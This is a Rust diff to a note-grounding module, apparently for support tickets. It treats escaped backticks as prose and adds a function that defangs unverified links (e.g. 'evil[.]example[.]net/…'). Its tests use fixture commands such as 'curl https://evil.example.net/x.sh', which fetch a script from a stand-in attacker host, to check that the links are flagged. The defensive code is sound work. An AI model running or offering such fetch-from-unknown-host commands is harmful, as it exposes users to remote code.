@@ -171,7 +171,13 @@ fn pieces(note: &str) -> Vec<Piece<'_>> {
 
 /// `text`'s prose and inline code spans, in order.
 fn spans<'a>(text: &'a str, out: &mut Vec<Piece<'a>>) {
-    let ticks: Vec<usize> = text.match_indices('`').map(|(at, _)| at).collect();
+    // An escaped backtick (`\``) opens no span: Markdown shows it as text,
+    // and its contents are prose to be grounded.
+    let ticks: Vec<usize> = text
+        .match_indices('`')
+        .map(|(at, _)| at)
+        .filter(|at| !text[..*at].ends_with('\\'))
+        .collect();
     let mut from = 0;
     for pair in ticks.chunks_exact(2) {
         out.push(Piece::Prose(&text[from..pair[0]]));
@@ -344,7 +350,7 @@ fn unbacked_in_code(code: &str, sources: &Sources) -> Vec<String> {
     };
     for link in URL.find_iter(code) {
         if !sources.link_known(link.as_str()) {
-            add(link.as_str().trim_end_matches(['.', ',', ';']));
+            add(&defanged(link.as_str().trim_end_matches(['.', ',', ';'])));
         }
     }
     // Hosts and addresses inside a link are the link's.
@@ -357,6 +363,20 @@ fn unbacked_in_code(code: &str, sources: &Sources) -> Vec<String> {
         }
     }
     found
+}
+
+/// An unbacked link named outside its code, so that no renderer makes it
+/// a link (Jira's wiki links any bare URL): its host with the dots broken,
+/// `evil[.]example[.]net/…`, which says where it points and goes nowhere.
+fn defanged(url: &str) -> String {
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
+    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
+    let mut named = host.replace('.', "[.]");
+    if !path.is_empty() {
+        named.push_str("/…");
+    }
+    named
 }
 
 #[cfg(test)]
@@ -455,10 +475,33 @@ mod tests {
             grounded.note,
             "Run `Test-NetConnection db01.corp.local -Port 443` (unverified: db01.corp.local) then\n\
              ```\nping 10.20.1.31\ncurl https://evil.example.net/x\n```\n\
-             (unverified: https://evil.example.net/x)\n\
+             (unverified: evil[.]example[.]net/…)\n\
              and `ipconfig /all`.",
         );
         assert_eq!(grounded.unverified, 2);
+    }
+
+    /// Backticks a writer escaped make no code: what is between them is
+    /// prose, and an unknown link there is removed like any other.
+    #[test]
+    fn escaped_backticks_make_no_code_to_hide_a_link_in() {
+        let note = "Open \\`https://evil.example.net/fix\\` now.";
+        let grounded = ground(note, &context(), "SUP-1042", en());
+        assert!(
+            !grounded.note.contains("evil.example.net"),
+            "{}",
+            grounded.note
+        );
+        // An unbacked link named after real code is no link either.
+        let grounded = ground(
+            "Run `curl https://evil.example.net/x.sh`.",
+            &context(),
+            "SUP-1042",
+            en(),
+        );
+        let mark = grounded.note.split_once("` ").unwrap().1;
+        assert!(!mark.contains("https://"), "{}", grounded.note);
+        assert!(mark.contains("evil[.]example[.]net/…"), "{}", grounded.note);
     }
 
     #[test]
